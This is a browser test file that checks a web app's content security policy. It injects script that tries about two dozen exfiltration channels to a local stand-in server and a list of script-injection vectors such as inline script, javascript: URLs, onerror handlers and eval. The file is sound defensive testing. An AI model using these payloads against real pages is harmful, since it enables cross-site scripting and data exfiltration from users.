import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { quietChromium, skipTheTour } from './browser.js';
import { serveDist, type ServedPage } from './serve-dist.js';

/** Code of the page's own that asks a stranger's server for what is named; `there(name)` is its address. */
const waysOut: Readonly<Record<string, string>> = {
  fetch: `fetch(there('fetch'), { mode: 'no-cors' })`,
  request: `const asked = new XMLHttpRequest(); asked.open('GET', there('request')); asked.send()`,
  beacon: `navigator.sendBeacon(there('beacon'), 'x')`,
  socket: `new WebSocket(there('socket').replace('http', 'ws'))`,
  events: `new EventSource(there('events'))`,
  image: `new Image().src = there('image')`,
  drawing: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + there('drawing') + '"/></svg>')`,
  sheet: `add('link', { rel: 'stylesheet', href: there('sheet') })`,
  import: `add('style', {}, '@import "' + there('import') + '"')`,
  background: `add('p', { style: 'background: url(' + there('background') + ')' }, 'x')`,
  font: `document.fonts.add(new FontFace('stranger', 'url(' + there('font') + ')')); add('p', { style: 'font-family: stranger' }, 'x'); document.fonts.load('1em stranger')`,
  video: `add('video', { src: there('video') })`,
  poster: `add('video', { poster: there('poster') })`,
  frame: `add('iframe', { src: there('frame') })`,
  document: `add('iframe', { srcdoc: '<img src="' + there('document') + '">' })`,
  object: `add('object', { data: there('object') })`,
  plugin: `add('embed', { src: there('plugin') })`,
  script: `add('script', { src: there('script') })`,
  module: `import(there('module'))`,
  preload: `add('link', { rel: 'preload', as: 'image', href: there('preload') })`,
  prefetch: `add('link', { rel: 'prefetch', href: there('prefetch') })`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + there('worker') + '", { mode: "no-cors" })'])))`,
  base: `document.head.append(Object.assign(document.createElement('base'), { href: there('') })); new Image().src = 'base'`,
};

/** Text that somebody got into the page, and that runs where the policy lets it: `ran(name)`. */
const injected: Readonly<Record<string, string>> = {
  inline: `add('script', {}, "ran('inline')")`,
  data: `add('script', { src: "data:text/javascript,ran('data')" })`,
  blob: `add('script', { src: URL.createObjectURL(new Blob(["ran('blob')"])) })`,
  handler: `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran(\\'handler\\')">')`,
  click: `add('button', { onclick: "ran('click')" }, 'x').click()`,
  address: `add('a', { href: "javascript:ran('address')" }, 'x').click()`,
  eval: `eval("ran('eval')")`,
  function: `new Function("ran('function')")()`,
  timeout: `setTimeout("ran('timeout')")`,
};

let browser: Browser;
let served: ServedPage;
let stranger: Server;
let foreign: string;
/** What the stranger's server was asked for. */
let asked: string[] = [];

beforeAll(async () => {
  served = await serveDist();
  browser = await chromium.launch(quietChromium);
  stranger = createServer((request, response) => {
    asked.push(request.url?.slice(1) ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' }).end('<p>bare</p>');
  });
  stranger.on('upgrade', (request, socket) => {
    asked.push(request.url?.slice(1) ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => stranger.listen(0, resolve));
  foreign = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`;
});
afterAll(async () => {
  await browser.close();
  await served.close();
  stranger.closeAllConnections();
  stranger.close();
});

/** Goes all these ways on a page; tells which led to the stranger's server within some milliseconds, and what ran. */
async function attack(address: string, within: number): Promise<{ asked: string[]; ran: string[] }> {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  await context.addInitScript(skipTheTour);
  const page = await context.newPage();
  const ways = Object.values({ ...waysOut, ...injected }).map((code) => `try { ${code} } catch {}`);
  await page.route('**/attack.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `const there = (name) => ${JSON.stringify(foreign)} + name; const ran = (name) => void document.body.append(add('data', { class: 'ran', value: name }));
        const add = (name, attributes, text = '') => {
          const element = document.createElement(name);
          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
          element.textContent = text;
          document.body.append(element);
          return element;
        };
        addEventListener('unhandledrejection', (event) => event.preventDefault());
        ${ways.join('\n')}`,
    }),
  );
  await page.goto(address);
  asked = [];
  await page.evaluate(() =>
    document.body.append(Object.assign(document.createElement('script'), { src: './attack.js' })),
  );
  const ran = (): Promise<string[]> =>
    page.evaluate(() => [...document.querySelectorAll<HTMLDataElement>('data.ran')].map(({ value }) => value));
  const all = async (): Promise<boolean> => new Set([...asked, ...(await ran())]).size === ways.length;
  await vi.waitUntil(all, { timeout: within }).catch(() => null);
  const found = { asked: [...new Set(asked)].toSorted(), ran: (await ran()).toSorted() };
  await context.close();
  return found;
}

describe('code that got into the page', () => {
  test('would run and reach a server of its own, were there no policy', async () => {
    const { asked: all, ran } = await attack(foreign.replace('127.0.0.1', 'localhost'), 20_000);
    expect(all).toEqual(Object.keys(waysOut).toSorted());
    expect(ran).toEqual(Object.keys(injected).toSorted());
  });

  test.each(['', 'embed.html'])('reaches no server, and no injected text runs: %s', async (path) => {
    expect(await attack(served.url + path, 1500)).toEqual({ asked: [], ran: [] });
  });
});
